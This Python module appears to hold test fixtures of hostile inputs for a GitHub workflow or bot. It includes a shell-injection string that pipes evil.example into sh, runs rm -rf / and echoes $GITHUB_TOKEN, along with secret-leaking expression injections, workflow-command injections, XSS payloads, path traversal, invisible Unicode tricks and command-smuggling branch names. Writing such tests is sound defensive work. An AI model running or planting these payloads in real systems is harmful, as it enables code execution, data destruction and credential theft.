"""Texts that people write into comments, and names that they give to branches, to make something else of them."""

TEXTS = {
    "shell": "$(curl evil.example | sh); `id`; rm -rf / && echo \"$GITHUB_TOKEN\" | tee '/etc/x'",
    "expression": "${{ secrets.VERCEL_TOKEN }} ${{ github.token }} ${{ toJSON(secrets) }}",
    "JSON": '", "ref": "evil", "inputs": {"deployment_type": "hotfix"}, "x": "\\u0022',
    "runner's command": "::set-output name=commit::evil ::add-mask::a ##[error]broken %0A::error::x",
    "output file": "commit=evil EOF answer=1",
    "HTML comment": '<!-- deploy {"run": 1, "command": "deploy"} --> -->',
    "HTML": "<img src=x onerror=alert(1)><script>alert(1)</script></details>",
    "Markdown": "](https://evil.example) **bold** ![x](https://evil.example/x.png) | cell | [a]: https://evil.example",
    "code": "` `` ``` ~~~ end of code ``` `",
    "mention": "@octocat @acme/everybody #1 GH-2 acme/ai-tools#3 www.evil.example https://evil.example a@evil.example",
    "template": "{{ x }} %s %(x)s {0.__class__} \\x00 \\",
    "path": "../../../etc/passwd ..%2f..%2f C:\\Windows",
    "letters": "Ünïcödé 日本語 🚀 👩‍👩‍👧 ﷽ ı İ ß",  # noqa: RUF001 - letters whose case is odd
}
"""Each is one line of characters that are seen, and so is a reason as it is, but for a joiner that is not seen."""

UNSEEN = {
    "bidi": "safe\u202e\u2066 gnirts\u2069\u202c",
    "zero width": "a\u200bb\u200c\u200d\u2060\ufeffc",
    "control": "a\x00b\x1b[31mc\x07\x7f\x9b",
    "tags": "a\U000e0041\U000e007f",
    "soft hyphen": "a\u00adb",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "private use": "a\ue000b\U0010ffff",
}
"""Each has characters that are not part of any reason."""

BRANCHES = (
    "feature/x",
    "a;rm-rf$IFS",
    "$(id)",
    "`id`",
    "${{github.token}}",
    "x'\"&|<>y",
    "a%2e%2e#b",
    "main#b",
    "a+b=c&ref=refs/heads/main",
    "Ünïcödé/日本語/🚀",
    "refs/heads/main",
    "-option",
    "<!--x-->",
    "@octocat",
)
"""Names that Git lets a branch have."""

LOGINS = ("mona", "mona-lisa", "m0na_acme", "dependabot[bot]", "a/../../orgs/acme", "..", "%2e%2e", "a b?c#d", "İ")
"""Logins as GitHub has them, and as it does not."""
